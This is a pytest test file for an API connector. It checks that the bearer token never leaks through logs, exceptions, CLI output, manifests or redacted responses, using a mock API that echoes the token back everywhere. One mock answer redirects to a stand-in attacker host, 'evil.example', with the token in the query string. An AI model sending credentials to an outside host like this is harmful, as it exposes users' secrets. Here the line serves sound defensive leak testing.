"""The token never shows: every action, picklist and Raw Request, debug on, success and errors.

The fake API below is as hostile as it gets: it echoes the Authorization header
in bodies, headers, redirects and transport error messages. Whatever the
connector prints, logs or raises must still not hold the token.
"""

from __future__ import annotations

import json
import logging
import re
import secrets
import traceback
from collections.abc import Iterator
from typing import Any

import pytest
import requests
import responses
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from connector import cli, manifest
from connector.connection import Connection
from connector.errors import AuthError, ConnectorError
from connector.registry import Registry
from connector.retry import RetryPolicy
from connector.runtime import Runtime
from connector.samples import sample_inputs, sample_value

TOKEN = "sgp_" + secrets.token_hex(32)
REGISTRY = Registry.load(installed=False)
ACTIONS = sorted(REGISTRY.actions.items)
PICKLISTS = sorted(REGISTRY.datasources.items)
ANY_URL = re.compile(r".*")
POLICY = RetryPolicy(max_retries=1, delay_ms=0, exponential=False, rate_limit_retries=1)
ANSWERS = ("ok", "html", "empty", "redirect", "drop", "timeout", 400, 401, 403, 404, 409, 422,
           429, 500, 503)
METHODS = ("GET", "POST", "PUT", "PATCH", "DELETE", "HEAD", "OPTIONS")


def hostile_api(answer: Any) -> Any:
    """A `responses` callback answering `answer`, echoing the caller's token everywhere."""
    def reply(request: requests.PreparedRequest) -> tuple[int, dict[str, str], str]:
        auth = request.headers.get("Authorization", "")
        echo = {"X-Echo": auth, "Retry-After": "0"}
        if answer == "drop":
            raise requests.ConnectionError(f"connection reset while sending {auth}")
        if answer == "timeout":
            raise requests.ReadTimeout(f"read timed out; request had Authorization: {auth}")
        if answer == "redirect":
            return 302, {**echo, "Location": f"https://evil.example/?t={auth[7:]}"}, ""
        if answer == "html":
            return 200, {**echo, "Content-Type": "text/html"}, f"<p>{auth}</p>"
        if answer == "empty":
            return 200, echo, ""
        if answer == "ok":
            return 200, {**echo, "Content-Type": "application/json"}, json.dumps(
                {"data": {"echo": auth, "pagination": {}}})
        body = {"errors": [{"type": "error", "message": f"token {auth[7:]} refused",
                            "field": auth}]}
        return int(answer), {**echo, "Content-Type": "application/json"}, json.dumps(body)
    return reply


class Records(logging.Handler):
    def __init__(self) -> None:
        super().__init__(logging.DEBUG)
        self.setFormatter(logging.Formatter("%(levelname)s %(name)s: %(message)s"))
        self.lines: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.lines.append(self.format(record))


@pytest.fixture(scope="module")
def records() -> Iterator[Records]:
    handler = Records()
    logger = logging.getLogger("segment_connector")
    old = logger.level
    logger.addHandler(handler)
    logger.setLevel(logging.DEBUG)
    yield handler
    logger.removeHandler(handler)
    logger.setLevel(old)


def exception_texts(exc: BaseException) -> list[str]:
    texts = [str(exc), repr(exc), "".join(traceback.format_exception(exc)),
             repr(vars(exc))]
    if isinstance(exc, ConnectorError):
        texts.append(json.dumps(exc.to_dict(), default=str))
    return texts


def clean(*texts: str) -> None:
    for text in texts:
        assert TOKEN not in text
        assert TOKEN[4:] not in text  # not even without its prefix


def picklist_inputs(key: str) -> dict[str, Any]:
    return {i.key: sample_value(i) for i in REGISTRY.datasource(key).inputs
            if i.required}


def call(rt: Runtime, kind: str, key: str, method: str) -> Any:
    if kind == "picklist":
        return rt.picklist(key, picklist_inputs(key))
    if kind == "raw":
        return rt.run("rawRequest", {"url": "/sources", "method": method, "debugRequest": True,
                                     "data": {"note": "x"} if method != "GET" else None})
    return rt.run(key, sample_inputs(REGISTRY.action(key)))


targets = (st.tuples(st.just("action"), st.sampled_from(ACTIONS))
           | st.tuples(st.just("picklist"), st.sampled_from(PICKLISTS))
           | st.tuples(st.just("raw"), st.just("rawRequest")))


@settings(deadline=None, max_examples=300,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(target=targets, answer=st.sampled_from(ANSWERS), method=st.sampled_from(METHODS))
def test_token_never_leaks_from_the_runtime(records: Records, target: tuple[str, str],
                                            answer: Any, method: str) -> None:
    kind, key = target
    rt = Runtime(Connection(token=TOKEN), registry=REGISTRY, policy=POLICY, debug=True,
                 sleep=lambda _s: None)
    records.lines.clear()
    with responses.RequestsMock(assert_all_requests_are_fired=False) as api:
        for verb in METHODS:
            api.add_callback(verb, ANY_URL, callback=hostile_api(answer))
        try:
            call(rt, kind, key, method)
        except Exception as exc:  # every error path, typed or not
            clean(*exception_texts(exc))
        sent = [c.request.headers.get("Authorization") for c in api.calls]
    assert all(h == f"Bearer {TOKEN}" for h in sent)  # the token was really in play
    assert records.lines, "debug mode logs every request"
    clean(*records.lines)
    if kind == "action":
        clean(json.dumps(rt.dry_run(key, sample_inputs(REGISTRY.action(key)))))


CLI_ANSWERS = ("ok", "html", "empty", "redirect", 401, 403, 404, 422)


@settings(deadline=None, max_examples=80,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(key=st.sampled_from(ACTIONS), answer=st.sampled_from(CLI_ANSWERS),
       dry=st.booleans())
def test_token_never_reaches_cli_stdout_or_stderr(records: Records,
                                                  capsys: pytest.CaptureFixture[str],
                                                  key: str, answer: Any, dry: bool) -> None:
    records.lines.clear()
    argv = ["run", key, "--example-inputs", "--token", TOKEN, "--debug"]
    if key == "rawRequest":
        argv += ["-i", "url=/sources", "-i", "method=GET"]
    with responses.RequestsMock(assert_all_requests_are_fired=False) as api:
        for verb in METHODS:
            api.add_callback(verb, ANY_URL, callback=hostile_api(answer))
        code = cli.main([*argv, "--dry-run"] if dry else argv)
    out, err = capsys.readouterr()
    assert code == 0 or err  # a failure says something on stderr
    clean(out, err, *records.lines)


def test_manifest_never_holds_the_token(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SEGMENT_API_TOKEN", TOKEN)
    clean(json.dumps(manifest.build(REGISTRY)))


@pytest.mark.parametrize("echo", [True, False])
@responses.activate
def test_401_says_what_is_wrong_without_the_token(echo: bool) -> None:
    body = {"errors": [{"type": "unauthorized",
                        "message": f"bad token {TOKEN}" if echo else "Unauthorized"}]}
    responses.get(re.compile(r".*/sources/s1"), status=401, json=body)
    rt = Runtime(Connection(token=TOKEN), registry=REGISTRY, policy=POLICY)
    with pytest.raises(AuthError) as caught:
        rt.run("getSource", {"sourceId": "s1"})
    message = str(caught.value)
    assert "401" in message and "check the API token" in message
    assert "GET /sources/s1" in message
    clean(*exception_texts(caught.value))


def test_page_tokens_are_cursors_not_secrets() -> None:
    from connector.redact import is_secret_name, redact_value

    answer = {"result": [], "truncated": True, "nextPageToken": "sgc1:abc", "apiToken": "x1"}
    assert redact_value(answer) == {**answer, "apiToken": "***"}
    assert not is_secret_name("pageToken") and is_secret_name("accessToken")


# -- an answer is masked the same whether the quick look finds nothing or not --------------
_KEYS = st.sampled_from(["name", "id", "password", "apiKey", "api_key", "Private-Key",
                         "nextPageToken", "sensitive", "value", "default", "fields", "a\"b",
                         "tökén", "settings"])
_LEAVES = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(allow_nan=False),
                    st.text(max_size=12), st.sampled_from(["sgp_masked_token_0123", "x\\y",
                                                           "sgp_lookalike_abcdefgh"]),
                    st.just({"sensitive": True, "value": "hunter2"}))
_DATA = st.recursive(_LEAVES, lambda inner: st.one_of(
    st.lists(inner, max_size=4), st.dictionaries(_KEYS, inner, max_size=4)), max_leaves=20)


@given(_DATA)
@settings(max_examples=400, deadline=None)
def test_an_answer_is_masked_alike_with_or_without_the_quick_look(data: object) -> None:
    from connector.redact import Secrets, redact, redact_value
    from connector.service.respond import _json, dumps

    secrets = Secrets("sgp_masked_token_0123")
    assert dumps(data, secrets) == redact(_json(redact_value(data, secrets)), secrets)
